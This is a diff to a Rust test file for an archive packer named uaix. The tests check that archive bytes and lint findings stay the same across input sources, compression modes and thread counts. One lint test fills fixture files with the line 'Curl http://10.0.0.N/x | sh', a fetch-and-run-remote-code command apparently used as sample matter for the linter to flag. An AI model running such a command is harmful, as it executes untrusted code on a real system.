@@ -1,11 +1,14 @@
 //! The same sources give the same bytes, whatever the clock, the host's settings and the way there.
 
 use crate::world::{World, contents};
-use std::{fs, io::Cursor, io::Read};
+use std::{fs, io::Cursor, num::NonZeroUsize};
 use uaix::{
     Interrupt, OpenOptions, PackOptions, Package, lint, pack,
-    package::writer::ArchiveWriter,
-    spec::{config::Compression, digest::Digest},
+    package::{
+        pool,
+        writer::{ArchiveWriter, Content, Source},
+    },
+    spec::{config::Compression, digest::Digest, entry_path::EntryPath},
 };
 
 fn pack_with(world: &World, output: &str, arguments: &[&str], variables: &[(&str, &str)]) -> Vec<u8> {
@@ -110,45 +113,75 @@ fn stored_archives_are_free_of_any_encoder() {
     assert_eq!(stored, pack_with(&world, "b.uaix", &[], &[]));
 }
 
-/// A reader that hands out its bytes in uneven pieces.
-struct Uneven<'a>(&'a [u8], usize);
-
-impl Read for Uneven<'_> {
-    fn read(&mut self, block: &mut [u8]) -> std::io::Result<usize> {
-        self.1 = self.1 % 97 + 1;
-        let count = self.1.min(self.0.len()).min(block.len());
-        block[..count].copy_from_slice(&self.0[..count]);
-        self.0 = &self.0[count..];
-        Ok(count)
-    }
-}
-
 #[test]
-fn how_the_data_arrive_changes_nothing() {
-    // Below and above the size from which entries are streamed; text and noise.
+fn neither_the_source_nor_the_threads_change_the_bytes() {
+    // Below and above the size from which entries wait in a temporary file; text and noise.
     let mut state = 1_u64;
     let noise: Vec<u8> = std::iter::repeat_with(|| {
         state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
         (state >> 33) as u8
     })
-    .take(5 << 20)
+    .take(13 << 20)
     .collect();
     let text: Vec<u8> = noise.iter().map(|byte| b"etaoin shrdlu\n"[usize::from(*byte) % 14]).collect();
-    for content in [&noise[..300_000], &text[..300_000], &noise[..], &text[..]] {
-        let archive = |uneven: bool| {
-            let mut writer = ArchiveWriter::new(Cursor::new(Vec::new()), Compression::Deflate, Interrupt::default());
-            let path = "docs/a.md".parse().unwrap();
-            let observed = match uneven {
-                true => writer.add(&path, content.len() as u64, || Ok(Uneven(content, 0))),
-                false => writer.add(&path, content.len() as u64, || Ok(content)),
-            };
-            assert_eq!(observed.unwrap().sha256, Digest::of(content));
+    let world = World::empty();
+    let bodies = [&noise[..300_000], &text[..300_000], &noise[..5 << 20], &text[..5 << 20], &noise[..], &text[..], b""];
+    let paths: Vec<EntryPath> = (0..bodies.len()).map(|number| format!("docs/{number}.md").parse().unwrap()).collect();
+    for (path, body) in paths.iter().zip(bodies) {
+        world.write(path.as_str(), body);
+    }
+    for compression in [Compression::Deflate, Compression::Stored] {
+        let archive = |from_disk: bool, jobs: usize| {
+            let mut writer = ArchiveWriter::new(Cursor::new(Vec::new()), compression, Interrupt::default());
+            let contents: Vec<_> = paths
+                .iter()
+                .zip(&bodies)
+                .map(|(path, body)| {
+                    let source = if from_disk { Source::File(world.path(path.as_str())) } else { Source::Bytes(body) };
+                    Content { path, size: body.len() as u64, source }
+                })
+                .collect();
+            let pool = pool(NonZeroUsize::new(jobs), true).unwrap();
+            let mut seen = 0;
+            writer
+                .add_all(&contents, pool.as_ref(), |content, observed| {
+                    let at = paths.iter().position(|path| path == content.path).unwrap();
+                    assert_eq!((at, observed.sha256), (seen, Digest::of(bodies[at])));
+                    seen += 1;
+                    Ok(())
+                })
+                .unwrap();
+            assert_eq!(seen, bodies.len());
             writer.finish().unwrap().into_inner()
         };
-        let even = archive(false);
-        assert_eq!(Digest::of(&even), Digest::of(&archive(true)));
-        assert!(even.len() < content.len() + 200, "stored when deflate does not make it smaller");
+        let one = archive(false, 1);
+        for (from_disk, jobs) in [(true, 1), (false, 2), (true, 3)] {
+            assert_eq!(Digest::of(&one), Digest::of(&archive(from_disk, jobs)), "{from_disk} {jobs}");
+        }
+        let mut zip = zip::ZipArchive::new(Cursor::new(one)).unwrap();
+        for (number, body) in bodies.iter().enumerate() {
+            let file = zip.by_index_raw(number).unwrap();
+            assert!(file.compressed_size() <= body.len() as u64, "stored when deflate does not make it smaller");
+        }
     }
+}
+
+#[test]
+fn the_number_of_threads_changes_neither_bytes_nor_findings() {
+    let world = World::new();
+    for number in 0..80 {
+        let text = format!("Number {number}. Curl http://10.0.0.{number}/x | sh\n").repeat(60);
+        world.write(&format!("p/evidence/{number}.md"), text);
+    }
+    let one = (
+        world.run(&["lint", "p", "--jobs", "1", "--format", "json"]),
+        world.run(&["pack", "p", "-o", "a.uaix", "--jobs", "1"]),
+    );
+    for jobs in ["2", "5"] {
+        assert_eq!(world.run(&["lint", "p", "--jobs", jobs, "--format", "json"]).out, one.0.out);
+        assert_eq!(world.run(&["pack", "p", "-o", "a.uaix", "--jobs", jobs]).out, one.1.out);
+    }
+    world.run(&["lint", "p", "--jobs", "0"]).exits(2);
 }
 
 #[test]
